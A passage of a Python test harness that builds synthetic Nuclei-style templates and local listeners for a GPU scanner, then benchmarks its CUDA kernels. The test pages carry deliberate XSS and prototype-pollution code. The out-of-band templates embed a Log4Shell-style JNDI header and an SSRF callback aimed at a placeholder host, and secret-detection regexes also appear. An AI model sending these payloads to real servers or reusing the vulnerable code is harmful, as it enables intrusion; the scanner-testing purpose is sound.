        _alerts_doc("prototype-pollution-check", "/hl/pp", _PP_HOOK, "__proto__"),
        _hl_doc("revealjs-version", [
            _nav("/hl/reveal"), {"action": "waitload"},
            {"action": "script", "name": "revealjs", "args": {
                "code": '() => {\n  return (Reveal.VERSION <= "3.8.0" || Reveal.VERSION < "4.3.0")\n}'}},
        ], [{"type": "word", "part": "revealjs", "words": ["true"]}], severity="medium"),
        _hl_doc("screenshot", [
            _nav("/hl/shot"), {"action": "waitload"},
            {"action": "screenshot", "args": {"fullpage": True}},
        ], [{"type": "word", "part": "resp", "words": ["chip-shot-ok"]}]),
        _hl_doc("js-required", [
            _nav("/hl/shot"),
            {"action": "script", "args": {"hook": True, "code": "() => window.foo"}},
            {"action": "script", "name": "alerts", "args": {"code": "window.alerts"}},
        ], [{"type": "word", "part": "alerts", "words": ["foo"]}]),
    ]


_HL_LOGIN = b"""<html><body><div><div>x</div><div>
<form action="login.php" method="post">
<fieldset>
<input type="text" name="username">
<input type="password" name="password">
<p><input type="submit" name="Login" value="Login"></p>
</fieldset>
<input type="hidden" name="user_token" value="tok123">
</form>
</div></div></body></html>"""

_HL_PAGES = {
    "/hl/urls": b'<html><head><script src="/hl/static/app.js"></script></head><body>'
                b'<a href="https://other.example/x">x</a><a href="/hl/rel/page">y</a>'
                b'<form action="/hl/post/here"></form><img src="/hl/static/app.js"></body></html>',
    "/hl/static/app.js": b"eval(window.name); console.log('app');",
    "/hl/hooks": b"""<html><head><script src="/hl/static/app.js"></script>
<script>
  window.addEventListener('message', function (e) { handle(e.data); });
</script>
</head><body onmessage="route(event)">
<iframe id=f src="/hl/child"></iframe><div id=out></div>
<script>
  var f = document.getElementById('f');
  f.contentWindow.postMessage({hello: 1}, '*');
  var payload = window.name;
  document.getElementById('f').innerHTML = '<b>' + payload + '</b>';
  var frag = location.hash.slice(1);
  document.getElementById('out').innerHTML = frag;
</script>
</body></html>""",
    "/hl/pp": b"""<html><head><script>
var params = {};
var q = location.search.substring(1);
q.split('&').forEach(function(pair) {
  var kv = pair.split('=');
  var keys = kv[0].split('[').map(function(s){return s.replace(']','');});
  var obj = params;
  for (var i = 0; i < keys.length - 1; i++) {
    if (!obj[keys[i]]) { obj[keys[i]] = {}; }
    obj = obj[keys[i]];
  }
  obj[keys[keys.length-1]] = decodeURIComponent(kv[1] || '');
});
</script></head><body>app</body></html>""",
    "/hl/reveal": b'<html><head><script src="/hl/dist/reveal.js"></script></head>'
                  b'<body class="reveal">slides</body></html>',
    "/hl/dist/reveal.js": b"/*! reveal.js 4.2.1 */\nvar t=\"4.2.1\";\nconst VERSION = '4.2.1';\n"
                          b"var Reveal = {VERSION: VERSION, initialize: function(){}};\n"
                          b"window.Reveal = Reveal;\n",
    "/hl/shot": b"<html><body>chip-shot-ok</body></html>",
}


def headless_reply(method: str, path: str, data: bytes) -> bytes:
    """What the headless listener answers to a request for ``path``
    (``data``: the request's head and body): the pages of
    :func:`headless_docs`, a form login (``login.php``: admin/password
    and its hidden token set a session cookie and redirect to
    ``index.php``, which greets only the cookie's holder), else a
    short 404."""
    route = path.split("?", 1)[0]
    extra = b""
    if route == "/hl/login.php" and method == "POST":
        body = data.split(b"\r\n\r\n", 1)[-1]
        if all(f in body for f in (b"username=admin", b"password=password",
                                   b"user_token=tok123", b"Login=Login")):
            return (b"HTTP/1.1 302 Found\r\nSet-Cookie: PHPSESSID=s3cr3t; path=/\r\n"
                    b"Location: /hl/index.php\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        status, page = 200, b"Login failed"
    elif route == "/hl/login.php":
        status, page = 200, _HL_LOGIN
    elif route == "/hl/index.php":
        status, page = 200, (b"<html>You have logged in as admin</html>"
                             if b"PHPSESSID=s3cr3t" in data else b"<html>please log in</html>")
    elif route in _HL_PAGES:
        status, page = 200, _HL_PAGES[route]
        if route.endswith(".js"):
            extra = b"Content-Type: text/javascript\r\n"
    else:
        status, page = 404, b"<html>not here</html>"
    return (b"HTTP/1.1 %d X\r\n%sContent-Length: %d\r\nConnection: close\r\n\r\n%s"
            % (status, extra, len(page), page))


def oob_headless_corpus(seed: int = 0) -> tuple[list, list, dict]:
    """:func:`active_corpus` with ``OOB_TEMPLATES`` of its templates
    (none on the bare base URL, none a workflow gates on) turned into
    interactsh templates of the two shapes the reference matches
    (``swarm_tpu/worker/oob.py:7-8``), each on a path of its own: even
    ones an SSRF-style HTTP callback (``url=http://{{interactsh-url}}/``,
    ``interactsh_protocol`` "http"; one in three also an
    ``interactsh_request`` word, the callback's User-Agent; one in five
    a regex extractor of the token), odd ones a log4j-style DNS lookup
    (a JNDI header; "dns"; one in three an ``interactsh_ip`` extractor,
    one in five an ``interactsh_request`` regex over the qname), then
    :func:`headless_docs`. → (docs, plants, {template id: (path name,
    shape)})."""
    docs, plants = active_corpus(seed)
    gated = {i for picks in _wf_corpus_picks(plants) for i in picks}
    pool = [i for i, d in enumerate(docs)
            if i not in gated and d["http"][0]["path"] != ["{{BaseURL}}"]]
    rng = np.random.default_rng(seed + 2000)
    oob = {}
    for j, i in enumerate(sorted(int(x) for x in rng.choice(pool, OOB_TEMPLATES, replace=False))):
        name = f"oob-{j:03d}"
        if j % 2 == 0:
            shape = "http"
            op = {"method": "GET",
                  "path": ["{{BaseURL}}/" + name + "/fetch?url=http://{{interactsh-url}}/"],
                  "matchers": [{"type": "word", "part": "interactsh_protocol", "words": ["http"]}]}
            if j % 3 == 0:
                op["matchers"].append({"type": "word", "part": "interactsh_request",
                                       "words": [OOB_CLIENT.split("/")[0]]})
            if j % 5 == 0:
                op["extractors"] = [{"type": "regex", "part": "interactsh_request",
                                     "regex": ["si[0-9a-f]{14}"]}]
        else:
            shape = "dns"
            op = {"method": "GET", "path": ["{{BaseURL}}/" + name + "/api"],
                  "headers": {"X-Api-Version": "${jndi:ldap://${hostName}.{{interactsh-url}}/a}"},
                  "matchers": [{"type": "word", "part": "interactsh_protocol", "words": ["dns"]}]}
            if j % 3 == 1:
                op["extractors"] = [{"type": "kval", "kval": ["interactsh_ip"]}]
            if j % 5 == 1:
                op["matchers"].append({"type": "regex", "part": "interactsh_request",
                                       "regex": [r"si[0-9a-f]{14}\." + re.escape(OOB_DOMAIN)]})
        op["matchers-condition"] = "and"
        tid = f"chip-oob-{j:03d}-{shape}"
        docs[i] = {"id": tid, "info": {"name": f"blind {shape} interaction {j}",
                                       "severity": ("high", "critical")[j % 2],
                                       "tags": "oob,synthetic"}, "http": [op]}
        oob[tid] = (name, shape)
    return docs + headless_docs(), plants, oob


def oob_vulnerable(k: int, name: str) -> bool:
    """Whether listener ``k`` calls back on the OOB path ``name``."""
    h = int.from_bytes(hashlib.md5(f"oob:{k}:{name}".encode()).digest()[:8], "little")
    return h % OOB_VULNERABLE == 0


_OOB_PATH_RE = re.compile(r"^/(oob-\d{3})/")
_SSRF_RE = re.compile(rb"url=http://([^/\s:]+)(?::(\d+))?(/\S*)?")
_JNDI_RE = re.compile(rb"\$\{jndi:ldap://\$\{hostName\}\.([^/:}\s]+)")


def dns_query(qname: bytes, port: int, tid: int = 0x4242) -> bytes:
    """One A query for ``qname`` to 127.0.0.1:``port`` → the reply."""
    q = struct.pack(">HHHHHH", tid, 0x0100, 1, 0, 0, 0)
    for label in qname.split(b"."):
        q += bytes([len(label)]) + label
    q += b"\x00" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3.0)
        s.sendto(q, ("127.0.0.1", port))
        return s.recvfrom(512)[0]


class OobFleet(PathFleet):
    """:class:`PathFleet` with OOB paths and a headless listener:
    listener ``headless`` answers ``/hl/`` paths with
    :func:`headless_reply`; on an OOB path (``/oob-NNN/``) a listener
    for which :func:`oob_vulnerable` holds first calls the token URL in
    the request back (an HTTP GET to the URL's port, the token host in
    its Host header) or resolves the JNDI header's host against the OOB
    listener's DNS port ``dns_port``, and every listener then answers
    as ``reply`` does, with the request's tokens masked, so that a
    token never changes what a listener answers."""

    def __init__(self, listeners: int, reply, dns_port: int, headless: int):
        from swarm_tpu_torch.worker.oob import _TOKEN_RE

        self.dns_port, self.headless, self._token_re = dns_port, headless, _TOKEN_RE
        self.callbacks = 0
        self._lock = threading.Lock()  # guards: callbacks (listener threads)
        super().__init__(listeners, reply)

    def _handle(self, k: int, conn: socket.socket) -> None:
        data = self._read_head(conn)
        head = data.split(b"\r\n\r\n", 1)[0]
        m = re.search(rb"(?im)^content-length:\s*(\d+)", head)
        while m and len(data) - len(head) - 4 < int(m.group(1)):
            chunk = conn.recv(4096)
            if not chunk:
                break
            data += chunk
        words = head.split(b"\r\n", 1)[0].decode("latin-1").split()
        if len(words) < 2:
            return
        method, path = words[0], words[1]
        if k == self.headless and path.startswith("/hl/"):
            conn.sendall(headless_reply(method, path, data))
            return
        oob = _OOB_PATH_RE.match(path)
        if oob and oob_vulnerable(k, oob.group(1)):
            self._call_back(head)
        masked = self._token_re.sub(b"si-token", path.encode("latin-1")).decode("latin-1")
        conn.sendall(self.reply(k, method, masked))

    def _call_back(self, head: bytes) -> None:
        ssrf = _SSRF_RE.search(head.split(b"\r\n", 1)[0])
        jndi = _JNDI_RE.search(head)
        if ssrf:
            host, port, path = ssrf.group(1), int(ssrf.group(2) or 80), ssrf.group(3) or b"/"
            with socket.create_connection(("127.0.0.1", port), timeout=5.0) as s:
                s.sendall(b"GET %s HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: %s\r\n"
                          b"Connection: close\r\n\r\n" % (path, host, port, OOB_CLIENT.encode()))
                while s.recv(4096):
                    pass
        elif jndi:
            dns_query(b"chip-host." + jndi.group(1), self.dns_port)
        else:
            return
        with self._lock:
            self.callbacks += 1


#: the reference's recorded file corpus (swarm_tpu/worker/filescan.py:1-16):
#: file templates and their matchers (per-entry ``extensions`` gates);
#: ``FILE_EXTRACTOR_ONLY`` of them carry extractors and no matcher
FILE_TEMPLATES, FILE_MATCHERS, FILE_EXTRACTOR_ONLY = 76, {"word": 43, "regex": 128}, 10
FILE_EXTS = ("conf", "js", "env", "yaml", "json", "xml", "php", "txt", "pl", "py")


def file_corpus(seed: int = 0) -> tuple[list, list]:
    """Nuclei ``file`` templates of the reference corpus's recorded shape
    (as parsed YAML dicts): ``FILE_TEMPLATES`` templates, word and regex
    matchers in ``FILE_MATCHERS``' counts spread over the matcher
    templates (some ``and`` with a negative word among them, as the audit
    templates are), ``FILE_EXTRACTOR_ONLY`` extractor-only templates (secret-style
    regexes), each with an ``extensions`` gate (``all`` for some). →
    (docs, plants): a plant is the file extension and the fragments that
    make the template fire."""
    rng = np.random.default_rng(seed + 2000)
    n_match = FILE_TEMPLATES - FILE_EXTRACTOR_ONLY
    kinds = ["word"] * FILE_MATCHERS["word"] + ["regex"] * FILE_MATCHERS["regex"]
    kinds = [kinds[int(i)] for i in rng.permutation(len(kinds))]
    per = [[k] for k in kinds[:n_match]]
    for k in kinds[n_match:]:
        per[int(rng.integers(0, n_match))].append(k)
    docs, plants = [], []
    for i in range(FILE_TEMPLATES):
        name = _name(rng)
        cap, upper = name.capitalize(), name.upper()
        exts = (["all"] if rng.random() < 0.1 else
                sorted({FILE_EXTS[int(j)] for j in rng.integers(0, len(FILE_EXTS),
                                                                int(rng.integers(1, 4)))}))
        plant = {"ext": exts[0] if exts[0] != "all" else FILE_EXTS[i % len(FILE_EXTS)],
                 "text": []}
        op = {"extensions": exts}
        if i < FILE_EXTRACTOR_ONLY:
            pat = f"{name}_(?:key|token)=[A-Za-z0-9]{{20}}"
            op["extractors"] = [{"type": "regex", "regex": [pat]}]
            plant["text"].append(f"{name}_token={''.join(rng.choice(list('AbC0123xyZ'), 20))}")
        else:
            matchers = []
            kinds_i = per[i - FILE_EXTRACTOR_ONLY]
            # an audit-style entry: every matcher must hold, and one word
            # must be absent
            audit = len(kinds_i) > 1 and "word" in kinds_i and rng.random() < 0.3
            for w, kind in enumerate(kinds_i):
                if kind == "word" and audit and w == kinds_i.index("word"):
                    matchers.append({"type": "word", "words": [f"{name} safe mode"],
                                     "negative": True})
                    continue
                if kind == "word":
                    word = (f"{cap} hardening {w}", f"{name}.enabled = true", f"<{name}-config>",
                            f"set {name} unsafe")[int(rng.integers(0, 4))]
                    matchers.append({"type": "word", "words": [word]})
                    plant["text"].append(word)
                    continue
                shape = int(rng.integers(0, 4))
                hexes = "".join(rng.choice(list("0123456789abcdef"), 24))
                if shape == 0:
                    pat, sample = (f"(?i){name}_(?:api_)?secret\\s*[=:]\\s*[a-f0-9]{{24}}",
                                   f"{name}_api_secret = {hexes}")
                elif shape == 1:
                    pat, sample = (f"-----BEGIN {upper} PRIVATE KEY-----",
                                   f"-----BEGIN {upper} PRIVATE KEY-----")
                elif shape == 2:
                    pat, sample = f"{name}://[a-z0-9.]+:[0-9]{{2,5}}", f"{name}://db.internal:5432"
                else:
                    pat, sample = (f"AK{upper[:4]}[0-9A-Z]{{12}}",
                                   f"AK{upper[:4]}{''.join(rng.choice(list('0123456789ABCDEF'), 12))}")
                matchers.append({"type": "regex", "regex": [pat]})
                plant["text"].append(sample)
            if audit:
                op["matchers-condition"] = "and"
            op["matchers"] = matchers
            if rng.random() < 0.3:
                op["extractors"] = [{"type": "regex", "regex": [f"{name}://[a-z0-9.]+:[0-9]+"]}]
        docs.append({"id": f"file-{i:03d}-{name}",
                     "info": {"name": f"{cap} file check", "severity": "medium"},
                     "file": [op]})
        plants.append(plant)
    return docs, plants


def write_file_tree(root: Path, n: int, plants: list, seed: int = 0) -> dict:
    """``n`` files under ``root`` (64 a directory) over ``FILE_EXTS``,
    their bytes ``realistic_rows`` bodies; one in eight longer than the
    engine's 4,096-byte ``max_body`` (the whole-row host redo); one in
    five planted with the fragments of a ``file_corpus`` template whose
    plant names the file's extension, past byte 4,096 in half of the
    long ones. → counts of files, long, planted and planted past 4,096."""
    rng = np.random.default_rng(seed + 3000)
    bodies = [r["body"] for r in realistic_rows(256, seed=seed + 7)]
    counts = {"files": n, "long": 0, "planted": 0, "planted_past_4096": 0}
    for j in range(n):
        ext = FILE_EXTS[j % len(FILE_EXTS)]
        data = bodies[int(rng.integers(0, len(bodies)))]
        if j % 8 == 3:
            while len(data) < int(rng.integers(5000, 12000)):
                data += b"\n" + bodies[int(rng.integers(0, len(bodies)))]
            counts["long"] += 1
        cands = [i for i, p in enumerate(plants) if p["ext"] == ext]
        if j % 5 == 1 and cands:
            text = " ".join(plants[cands[int(rng.integers(0, len(cands)))]]["text"]).encode()
            if len(data) > 4096 and j % 2:
                data = data + b"\n" + text + b"\n"
                counts["planted_past_4096"] += 1
            else:
                data = text + b"\n" + data
            counts["planted"] += 1
        path = root / f"d{j // 64:02d}" / f"f{j:04d}.{ext}"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return counts


# ---------------------------------------------------------------------------
# Phases


def phase_device() -> str:
    import torch

    if not torch.cuda.is_available():
        raise SystemExit("chip_smoke: no CUDA device")
    smi = subprocess.run(
        ["nvidia-smi", "--query-gpu=name,power.limit", "--format=csv,noheader"],
        capture_output=True, text=True, check=True,
    ).stdout.strip().splitlines()[0]
    emit({
        "phase": "device", "nvidia_smi": smi,
        "name": torch.cuda.get_device_name(0), "count": torch.cuda.device_count(),
        "capability": list(torch.cuda.get_device_capability(0)),
        "torch": torch.__version__, "cuda": torch.version.cuda,
    })
    return smi


def phase_build() -> tuple:
    """Build everything; → (the rate probe's library, ``match_md5``'s
    ptxas report and the dependent chain of its SASS,
    :func:`md5_sass_chain`)."""
    from swarm_tpu_torch.native import crex, scanio
    from swarm_tpu_torch.ops import kernels

    probe_path = kernels.BUILD_DIR / "libswarm_mma_rate.so"
    # built anew from the checkout's sources, so that ptxas reports on
    # every kernel even where an earlier run left the libraries under
    # their keys
    keys = {name: kernels.library_key(name) for name in kernels.LIBRARIES}
    for name in kernels.LIBRARIES:
        kernels.library_path(name).unlink(missing_ok=True)
    host_libs = {"scanio": scanio._LIB_PATH, "fastpack": scanio._FASTPACK_PATH,
                 "crex": crex._LIB_PATH}
    for lib_path in host_libs.values():
        lib_path.unlink(missing_ok=True)
    python_h = Path(sysconfig.get_paths()["include"]) / "Python.h"
    t0 = time.perf_counter()
    # one nvcc per source, all started together, beside the host builds
    with ThreadPoolExecutor(len(kernels.LIBRARIES) + 4) as pool:
        first = {name: pool.submit(library_load, name) for name in kernels.LIBRARIES}
        jobs = [pool.submit(kernels.compile_library, (MMA_PROBE,), probe_path),
                pool.submit(scanio.ensure_lib), pool.submit(scanio.ensure_fastpack),
                pool.submit(crex.ensure_crex)]
        for job in jobs:
            job.result()
        first = {name: job.result() for name, job in first.items()}
    setup_s = time.perf_counter() - t0
    # a second load of each, as a new process would make it: the keyed
    # file is there, so no nvcc runs
    for name in kernels.LIBRARIES:
        kernels._libs.pop(name, None)
    second = {name: library_load(name) for name in kernels.LIBRARIES}
    libraries = {}
    for name in kernels.LIBRARIES:
        if first[name]["how"] != "built" or second[name]["how"] != "fetched":
            raise AssertionError(f"build: {name} was {first[name]['how']}, then "
                                 f"{second[name]['how']} (want built, then fetched)")
        if second[name]["nvcc_s"] != 0.0:
            raise AssertionError(f"build: the second load of {name} ran nvcc")
        NVCC_SECONDS[name] = first[name]["nvcc_s"]
        libraries[name] = {"key": keys[name],
                           "path": str(kernels.library_path(name).relative_to(REPO)),
                           "first": first[name], "second": second[name]}
    ptxas = [k for name in kernels.LIBRARIES
             for k in kernels.ptxas_report(kernels.build_logs.get(name, ""))]
    md5_chain = md5_sass_chain(kernels.library_path("md5"))
    emit({"phase": "build", "setup_seconds": setup_s,
          "fastpack": scanio._fastpack is not None, "crex": crex._lib is not None,
          "python_h": str(python_h) if python_h.exists() else None,
          "host_libraries": {k: str(v.relative_to(REPO)) for k, v in host_libs.items()
                             if v.exists()},
          "libraries": libraries, "ptxas": ptxas, "md5_sass_chain": md5_chain})
    built = {k["kernel"].split("<")[0] for k in ptxas}
    for want in sorted({sym for syms in kernels.SYMBOLS.values() for sym in syms}):
        if want not in built:
            raise AssertionError(f"build: ptxas reported no {want}")
    spilled = [k for k in ptxas if k.get("spill_stores") or k.get("spill_loads")]
    if spilled:
        raise AssertionError(f"build: ptxas reports spills: {spilled}")
    lib = ctypes.CDLL(str(probe_path))
    lib.mma_rate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_int,
                             ctypes.c_void_p, ctypes.c_void_p]
    lib.mma_rate.restype = ctypes.c_int
    lib.md5_round_cycles.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p,
                                     ctypes.c_void_p]
    lib.md5_round_cycles.restype = ctypes.c_int
    (md5_ptxas,) = [k for k in ptxas if k["kernel"] == "match_md5_kernel"]
    return lib, {**{k: md5_ptxas[k] for k in ("registers", "smem_bytes", "spill_stores",
                                              "spill_loads")},
                 "sass_chain": md5_chain}


def library_load(name: str) -> dict:
    """``kernels.load_library(name)``, timed, with the nvcc seconds it
    took: "built" when it compiled the library under its key, "fetched"
    when the keyed file was there."""
    from swarm_tpu_torch.ops import kernels

    t0 = time.perf_counter()
    fetched = kernels.library_path(name).exists()
    kernels.load_library(name)
    seconds = time.perf_counter() - t0
    return {"how": "fetched" if fetched else "built", "seconds": seconds,
            "nvcc_s": 0.0 if fetched else seconds}


#: instructions after which a SASS basic block ends
_SASS_BRANCHES = ("BRA", "BRX", "JMP", "EXIT", "RET", "CALL", "BSYNC", "BREAK", "WARPSYNC")
#: opcodes that write no register
_SASS_NO_DEST = ("ST", "BRA", "BRX", "JMP", "EXIT", "RET", "CALL", "BAR", "SYNCS", "RED",
                 "NOP", "WARPSYNC", "BSSY", "BSYNC", "BREAK", "MEMBAR", "CCTL", "ERRBAR",
                 "UBLKCP", "DEPBAR", "YIELD", "NANOSLEEP", "ARRIVES", "FENCE")


def sass_chain(listing: str, kernel: str, rounds: int) -> dict:
    """The longest chain of register dependences in the largest basic
    block of ``kernel``'s SASS (``cuobjdump -sass`` ``listing``), in
    instructions, and that over ``rounds``: for ``match_md5`` the block
    is one 64-byte block's 64 unrolled rounds, so it is the dependent
    operations a round that the latency bound counts (MD5_CHAIN_OPS).
    Also the opcodes of one round of the chain from the block's middle."""
    body, in_fn = [], False
    for line in listing.splitlines():
        if "Function :" in line:
            in_fn = kernel in line
            continue
        if not in_fn:
            continue
        if re.match(r"\s*\.L_x_\d+:", line):
            body.append(None)
            continue
        found = re.match(r"\s*/\*[0-9a-f]{4,}\*/\s+(.*?)\s*;", line)
        if found:
            body.append(found.group(1))
    blocks, cur = [], []
    for ins in body + [None]:
        if ins is None:
            blocks.append(cur)
            cur = []
            continue
        cur.append(ins)
        if re.sub(r"^@!?U?P\w+\s+", "", ins).startswith(_SASS_BRANCHES):
            blocks.append(cur)
            cur = []
    if not any(blocks):
        raise AssertionError(f"no SASS of {kernel}")
    block = max(blocks, key=len)
    depth, prev, last_def, ops = [], [], {}, []
    for i, ins in enumerate(block):
        guard = re.match(r"^@!?(U?P\w+)\s+", ins)
        text = ins[guard.end():] if guard else ins
        op, _, rest = text.partition(" ")
        operands = [o.strip() for o in rest.split(",")] if rest else []
        dest = None
        if (operands and not op.startswith(_SASS_NO_DEST)
                and re.fullmatch(r"U?[RP]\d+", operands[0])):
            dest, operands = operands[0], operands[1:]
        srcs = re.findall(r"\bU?R\d+\b|\bU?P\d\b", " ".join(operands))
        if guard:
            srcs.append(guard.group(1))
        best, via = 0, -1
        for reg in srcs:
            j = last_def.get(reg)
            if j is not None and depth[j] > best:
                best, via = depth[j], j
        depth.append(best + 1)
        prev.append(via)
        ops.append(op)
        if dest is not None:
            width = 4 if ".128" in op else 2 if ".64" in op else 1
            base = int(re.sub(r"\D", "", dest))
            prefix = re.match(r"U?[RP]", dest).group(0)
            for k in range(width if prefix.endswith("R") else 1):
                last_def[f"{prefix}{base + k}"] = i
    end = int(np.argmax(depth))
    chain = []
    while end >= 0:
        chain.append(ops[end])
        end = prev[end]
    chain.reverse()
    per_round = len(chain) / rounds
    mid = len(chain) // 2
    return {"kernel": kernel, "block_instructions": len(block), "chain": len(chain),
            "rounds": rounds, "chain_ops_per_round": per_round,
            "round_ops": chain[mid: mid + max(1, round(per_round))]}


def md5_sass_chain(lib_path: Path) -> dict:
    """:func:`sass_chain` of ``match_md5_kernel`` in the built library
    (``cuobjdump -sass``, beside the build's nvcc)."""
    from swarm_tpu_torch.ops import kernels

    cuobjdump = Path(kernels._nvcc()).parent / "cuobjdump"
    listing = subprocess.run([str(cuobjdump), "-sass", str(lib_path)], capture_output=True,
                             text=True, check=True).stdout
    return sass_chain(listing, "match_md5_kernel", 64)


def phase_mma(probe: ctypes.CDLL) -> tuple:
    """The probe's mma.sync rates, each warp issuing 8 independent
    products a round on register operands, 8 warps a block, 8 blocks an
    SM, and the cycles of one md5 round on one thread
    (:func:`md5_round_cycles`); → (the 1-bit .and.popc rate in
    products/s, the md5 round cycles)."""
    import torch

    blocks = 8 * torch.cuda.get_device_properties(0).multi_processor_count
    iters = 2048
    mmas = blocks * 8 * iters * 8
    out = torch.empty(blocks * 256, dtype=torch.int32, device="cuda")
    stream = ctypes.c_void_p(torch.cuda.current_stream().cuda_stream)

    def launch(variant: int) -> None:
        rc = probe.mma_rate(variant, iters, blocks, ctypes.c_void_p(out.data_ptr()), stream)
        if rc != 0:
            raise RuntimeError(f"mma_rate: CUDA error {rc} at launch")

    rates = {}
    for variant, name, k in ((1, "b1_and_popc_m16n8k256", 256),
                             (2, "b1_xor_popc_m16n8k256", 256), (0, "s8_m16n8k32", 32)):
        ms = cuda_ms(lambda: launch(variant), 3)
        rates[name] = {
            "ms": ms, "mma_per_s": mmas / ms * 1e3,
            "tops": mmas * 16 * 8 * k * 2 / ms / 1e9,
        }
    rounds = md5_round_cycles(probe)
    emit({"phase": "mma", "blocks": blocks, "iters": iters, "rates": rates,
          "md5_round_cycles": rounds})
    return rates["b1_and_popc_m16n8k256"]["mma_per_s"], rounds


def md5_round_cycles(probe: ctypes.CDLL, iters: int = 1 << 16) -> dict:
    """The probe's md5 rounds on one thread, each waiting on the one
    before, in clock64 cycles a round: ``kernel``, csrc/md5.cu's round
    (a + x + k off the chain), and ``as_written``, a + F + x + k summed
    in that order. The latency bound takes MD5_CHAIN_OPS x
    DEPENDENT_OP_CYCLES cycles a round."""
    import torch

    out = torch.zeros(3, dtype=torch.int64, device="cuda")
    stream = ctypes.c_void_p(torch.cuda.current_stream().cuda_stream)
    cycles = {}
    for variant, name in ((0, "kernel"), (1, "as_written")):
        for _ in range(2):  # the second launch is timed warm
            rc = probe.md5_round_cycles(variant, iters, ctypes.c_void_p(out.data_ptr()), stream)
            if rc != 0:
                raise RuntimeError(f"md5_round_cycles: CUDA error {rc} at launch")
        n_cycles, ns = out[:2].tolist()
        cycles[name] = n_cycles / (iters * 4)
        cycles[f"{name}_clock_hz"] = n_cycles / ns * 1e9  # the SM clock it ran at
    return {**cycles, "bound": MD5_CHAIN_OPS * DEPENDENT_OP_CYCLES}


def sm_clock_hz() -> float:
    """The card's maximum SM clock (``nvidia-smi clocks.max.sm``), Hz."""
    out = subprocess.run(
        ["nvidia-smi", "--query-gpu=clocks.max.sm", "--format=csv,noheader,nounits"],
        capture_output=True, text=True, check=True,
    ).stdout.strip().splitlines()[0]
    return float(out) * 1e6


def cuda_ms(fn, reps: int) -> float:
    import torch

    fn()
    torch.cuda.synchronize()
    start = torch.cuda.Event(enable_timing=True)
    stop = torch.cuda.Event(enable_timing=True)
    start.record()
    for _ in range(reps):
        fn()
    stop.record()
    torch.cuda.synchronize()
    return start.elapsed_time(stop) / reps


def card_ms(fn, reps: int, clock_hz: float) -> float:
    """The card's time a call of ``fn``, without the host's: after a
    warm call, ``reps`` calls are queued behind a spin kernel
    (``torch.cuda._sleep``) that outlasts their enqueue, so they run back
    to back and the events around them time the card's work alone. For
    a kernel shorter than its wrapper's host work, :func:`cuda_ms` times
    the host."""
    import torch

    fn()
    torch.cuda.synchronize()
    t0 = time.perf_counter()
    for _ in range(reps):
        fn()
    torch.cuda.synchronize()
    enqueue_s = time.perf_counter() - t0
    start = torch.cuda.Event(enable_timing=True)
    stop = torch.cuda.Event(enable_timing=True)
    torch.cuda._sleep(int((2 * enqueue_s + 1e-3) * clock_hz))
    start.record()
    for _ in range(reps):
        fn()
    stop.record()
    torch.cuda.synchronize()
    return start.elapsed_time(stop) / reps


def phase_kernels(rng: np.random.Generator, big: np.ndarray, b1_mma_per_s: float) -> dict:
    import torch

    from swarm_tpu_torch.ops import cluster, kernels

    sets = []
    for n in (1, 7, 16, 127, 128, 129, 300, 4097, 8193, 65536):
        sets.append((f"random{n}", random_rows(rng, n)))
        sets.append((f"jarm{n}", big if n == 65536 else jarm_like_rows(rng, n)))
    sets.append(("duplicate4097", np.repeat(random_rows(rng, 1), 4097, axis=0)))
    err = {"cluster_counts": 0.0, "cluster_parent": 0.0}
    cases = 0
    for name, packed in sets:
        x = cluster.carry_packed(packed, "cuda")
        for radius in (0.0, 0.5, 32.0, 40.0, 512.0):
            rho = kernels.cluster_counts(x, radius)
            rho_p = cluster.neighbor_counts_plain(x, radius)
            delta, parent = cluster.nearest_denser_in_order(x, rho)
            delta_p, parent_p = cluster.nearest_denser_plain(x, rho)
            # the 64-bit key the wrapper takes above 2^21 rows, here too
            delta_w, parent_w = cluster.nearest_denser_in_order(
                x, rho, lambda r, o: kernels.parent_in_order(r, o, key_shift=32))
            torch.cuda.synchronize()
            e_counts = float((rho - rho_p).abs().max())
            e_parent = max(
                float((delta.double() - delta_p.double()).abs().max()),
                float((parent - parent_p).abs().max()),
                float((delta_w.double() - delta_p.double()).abs().max()),
                float((parent_w - parent_p).abs().max()),
            )
            if e_counts or e_parent or not (
                torch.equal(rho, rho_p) and torch.equal(delta, delta_p)
                and torch.equal(parent, parent_p)
                and torch.equal(delta_w, delta_p) and torch.equal(parent_w, parent_p)
            ):
                raise AssertionError(
                    f"kernel != plain on {name} radius {radius}: "
                    f"counts err {e_counts}, parent err {e_parent}"
                )
            err["cluster_counts"] = max(err["cluster_counts"], e_counts)
            err["cluster_parent"] = max(err["cluster_parent"], e_parent)
            cases += 1

    # times at the scale the main path is sized for
    n = big.shape[0]
    radius = 40.0
    x = cluster.carry_packed(big, "cuda")
    rho = kernels.cluster_counts(x, radius)
    # the parent kernel alone, without the density-order glue (sort,
    # gather, scatter back), with the 32-bit and the 64-bit key in turns
    order = torch.argsort(-rho, stable=True)
    rows, order32 = x.index_select(0, order), order.to(torch.int32)
    key_ms = {21: [], 32: []}
    for shift in (21, 32, 32, 21):
        key_ms[shift].append(cuda_ms(lambda: kernels.parent_in_order(rows, order32, shift), 10))
    del rows, order32
    times = {
        "cluster_counts": (
            cuda_ms(lambda: kernels.cluster_counts(x, radius), 10),
            cuda_ms(lambda: cluster.neighbor_counts_plain(x, radius), 3),
        ),
        "cluster_parent": (
            cuda_ms(lambda: cluster.nearest_denser_in_order(x, rho), 10),
            cuda_ms(lambda: cluster.nearest_denser_plain(x, rho), 3),
        ),
    }
    planes = cluster.unpack_bits(x).to(torch.bfloat16)
    library_ms = cuda_ms(lambda: torch.matmul(planes, planes.T), 5)
    del planes
    torch.cuda.empty_cache()
    # least time: the larger of the bytes read and written once at the HBM
    # rate and the 1-bit products at the rate the mma phase measured.
    # Distance is symmetric and, of two rows, exactly one is the denser,
    # so either function needs each unordered pair once: N(N−1)/2 pairs,
    # 128 a 16×8 tile, one m16n8k256 .and.popc product per 256 bits
    # (hamming = pop_i + pop_j − 2·popc(a & b)), two for 512 bits.
    products = n * (n - 1) / 128
    io_bytes = {
        "cluster_counts": n * 64 + n * 4,
        "cluster_parent": n * 64 + n * 4 + n * 8,
    }
    design = {
        "cluster_counts": (
